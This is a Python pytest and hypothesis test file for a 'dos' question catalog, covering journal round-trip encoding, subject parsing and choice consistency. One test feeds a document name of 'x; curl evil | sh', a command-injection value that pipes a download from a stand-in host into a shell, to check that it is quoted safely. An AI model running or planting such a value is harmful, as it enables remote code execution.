"""Every question is read from the journal as it was asked, and every answer has an effect."""

from typing import get_args

import pytest
from any_question import BY_CLASS, accounts, keys, questions
from hypothesis import given
from hypothesis import strategies as st
from msgspec import json, structs

from dos.limits.accounts import parse
from dos.questions import catalog, subject
from dos.questions.catalog import AnyQuestion, UnknownQuestion
from dos.questions.question import Record, SetAside
from dos.questions.units import UnitHeld

NAMED = (subject.Lane, subject.Unit, subject.RunSubject, subject.Host)
subjects = st.one_of(
    *(st.builds(kind, st.text(min_size=1)) for kind in NAMED),
    st.builds(subject.Limit, keys),
    st.just(subject.Fleet()),
)


def through_the_journal(question):
    return catalog.decode(json.decode(json.encode(catalog.encode(question)), type=Record))


@given(questions)
def test_a_question_is_read_as_it_was_asked(question):
    assert through_the_journal(question) == question


@given(questions)
def test_what_is_written_again_is_the_same(question):
    record = catalog.encode(question)
    assert catalog.encode(catalog.decode(record)) == record
    assert json.encode(catalog.encode(through_the_journal(question))) == json.encode(record)


def test_every_class_is_generated():
    assert set(BY_CLASS) == set(get_args(AnyQuestion))


@pytest.mark.parametrize("kind", BY_CLASS, ids=lambda kind: kind.__name__)
@given(data=st.data())
def test_every_class_is_told_from_the_others(kind, data):
    assert type(through_the_journal(data.draw(BY_CLASS[kind]))) is kind


@given(subjects)
def test_a_subject_is_read_as_it_was_written(one):
    assert subject.parse(str(one)) == one


@given(accounts)
def test_an_account_is_read_as_it_was_written(one):
    assert parse(one.scope, str(one)) == one


@given(st.text())
def test_every_word_of_a_subject_is_kept(word):
    assert str(subject.parse(word)) == word


@given(questions)
def test_every_choice_has_its_effect(question):
    """What is offered has an effect; what is released or set aside is something that waits."""
    assert [each.name for each in question.choices] == list(catalog.encode(question).choices)
    assert len({each.name for each in question.choices}) == len(question.choices)
    for choice in question.choices:
        assert question.choice(choice.name) == choice
        assert not (choice.releases and choice.sets_aside)
        assert question.waits or not choice.sets_aside
        assert not choice.sets_aside or isinstance(choice.sets_aside, SetAside)


@given(questions)
def test_what_happens_without_an_answer_is_an_answer_or_never_happens(question):
    expires = question.until_start or question.expires_ms is not None
    if expires and not isinstance(question, UnknownQuestion):
        assert question.choice(question.otherwise)
        assert question.choice(question.choice_without_answer(question.units))


@pytest.mark.parametrize("about", ["lane_failed", "budget", "baseline", "limit", "nonsense", ""])
def test_what_lacks_what_its_class_needs_still_holds_what_waits(about):
    record = Record(
        id="x", about=about, question="What?", waits=["lane:api", "odd"], choices={"retry": "r"}
    )
    decoded = catalog.decode(record)
    assert isinstance(decoded, UnknownQuestion)
    assert decoded.waits == (subject.Lane("api"), subject.UnknownSubject("odd"))
    assert catalog.encode(decoded) == record


@pytest.mark.parametrize(
    ("document", "word"),
    [("docs/a-plan.md", "docs/a-plan.md"), ("x; curl evil | sh", "'x; curl evil | sh'")],
)
def test_the_name_of_a_plan_is_one_word_of_the_command_that_is_proposed(document, word):
    held = UnitHeld.ask("P/A1", "DRAFT_CLASS", "its plan is a draft", document=document, line=7)
    assert held.clearing_command == f"${{EDITOR:-vi}} +7 {word}"


def test_where_a_unit_stands_is_read_from_the_one_word_of_an_older_version():
    held = UnitHeld.ask(
        "P/A1", "DRAFT_CLASS", "its plan is a draft", document="docs/a:b.md", line=7
    )
    record = catalog.encode(held)
    older = structs.replace(
        record,
        detail={
            key: value for key, value in record.detail.items() if key not in ("document", "line")
        },
    )
    assert catalog.decode(older) == held
